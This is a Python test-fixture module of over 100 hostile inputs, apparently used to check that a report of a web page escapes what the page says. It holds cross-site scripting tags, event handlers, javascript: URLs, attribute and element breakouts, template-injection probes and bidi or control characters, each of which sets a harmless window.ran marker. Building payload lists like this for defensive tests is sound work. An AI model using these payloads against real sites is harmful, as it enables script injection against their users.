"""What a hostile page may say so that a report of it runs a script, loads something or breaks apart: 100 and more ways.

Each would set `ran` on the page's window, or take the words after it out of their place.
"""

RAN = "window.ran=1"

TAGS = [
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</sCrIpT>",
    f"<script\n>{RAN}</script\n>",
    f"<script/x>{RAN}</script>",
    f"<script type=module>{RAN}</script>",
    f'<script src="data:text/javascript,{RAN}"></script>',
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<<script>{RAN}//<</script>",
    f"<svg><script>{RAN}</script></svg>",
    f'<svg><script href="data:,{RAN}"/></svg>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    f"<svg><style><img src=x onerror={RAN}></style></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f"<template><script>{RAN}</script></template>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f'<object data="javascript:{RAN}"></object>',
    f'<embed src="javascript:{RAN}">',
    f'<base href="javascript:{RAN}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RAN}">',
    f'<link rel=stylesheet href="data:text/css,*{{x:{RAN}}}">',
    f'<form action="javascript:{RAN}"><button>ok</button></form>',
    f'<a href="javascript:{RAN}">x</a>',
    f'<a href="java\tscript:{RAN}">x</a>',
    f'<a href="&#106;avascript:{RAN}">x</a>',
    f"<isindex action=javascript:{RAN} type=image>",
]  # fmt: skip
"""Elements that run or load something."""

EVENTS = [
    *(f"<{tag} {event}={RAN}>" for tag, event in (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"), ("details open", "ontoggle"),
        ("video><source", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("iframe", "onload"), ("object data=x", "onerror"),
        ("link rel=preload href=x as=style", "onerror"), ("style", "onload"), ("script src=x", "onerror"), ("frameset", "onload"),
        ("table background=x", "onerror"), ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"),
        ("a tabindex=0 autofocus", "onfocus"), ("button autofocus", "onfocus"), ("p contenteditable autofocus", "onfocus"),
        ("x style=animation:x 1s", "onanimationstart"), ("dialog open", "onclose"),
    )),
    f'<img src=x onerror="{RAN}" ',
    f"<img src=`x` onerror=`{RAN}`>",
    f"<img/src/onerror={RAN}>",
    f"<img src=x:x onerror\x0b={RAN}>",
    f'<IMG """><img src=x onerror={RAN}>">',
]  # fmt: skip
"""Handlers of events that happen by themselves."""

BREAKOUTS = [
    *(f"{quote}{close}<img src=x onerror={RAN}>" for quote in ('"', "'", "`", "") for close in (">", "/>", " >")),
    *(f"{quote} {event}={RAN} x={quote}" for quote in ('"', "'") for event in ("onmouseover", "autofocus onfocus", "onload", "onpointerenter")),
    *(f"</{tag}><script>{RAN}</script>" for tag in (
        "style", "title", "textarea", "script", "svg", "details", "summary", "td", "table", "li", "ol", "dl", "a", "head", "body", "html", "noscript",
    )),
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"*/</style><script>{RAN}</script>/*",
    "}body{display:none}/*",
    f'" style="background:url(javascript:{RAN})" x="',
    f"' style='behavior:url(#x);x:expression({RAN})' x='",
]  # fmt: skip
"""Ends of attributes, elements, comments and style sheets."""

TEMPLATES = [
    "{{ 7*7 }}", "{{ ''.__class__.__mro__ }}", "{% raw %}{{ x }}", "{%- for x in y -%}", "{# comment", "#}", "{{ t('title') }}", "${7*7}",
    "<%= 7*7 %>", "#{7*7}", "%(title)s", "{title}", "{0.__class__}", "{lake}", "%s%n",
]  # fmt: skip
"""What a template's engine would evaluate."""

SIGNS = [
    "\u202egpj.exe", "\u2066\u202e\u2069x", "\u200e\u200f\u061c", "\x00<script>", "\x1b[31m", "\x08\x08", "\ufeff", "\u2028\u2029", "\ufffe\uffff",
    "&lt;script&gt;", "&#60;script&#62;", "&amp;lt;", "&quot; onload=x", "%3Cscript%3E", "\\u003cscript\\u003e", "\x85\xa0", "a\u0300" * 50,
    "<" * 200, "&" * 200, "\"'" * 100,
]  # fmt: skip
"""Characters and references that are read twice, or turn what stands around them."""

PAYLOADS = (*TAGS, *EVENTS, *BREAKOUTS, *TEMPLATES, *SIGNS)
